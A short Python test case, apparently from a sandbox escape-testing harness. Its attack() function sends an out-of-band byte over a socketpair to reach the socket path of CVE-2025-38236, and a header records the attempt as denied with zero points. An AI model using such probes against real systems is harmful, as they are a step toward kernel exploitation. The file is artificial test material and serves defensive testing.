"""Sends out-of-band data through a socket of its own."""

# outcome: denied
# points: 0
# holes: CVE-2025-38236

import socket

from first_step import those_that_got_in


def attack(world):
    one, _ = socket.socketpair()
    return those_that_got_in({"MSG_OOB": ((44, 206), one.fileno(), b"x", 1, socket.MSG_OOB, None, 0)})
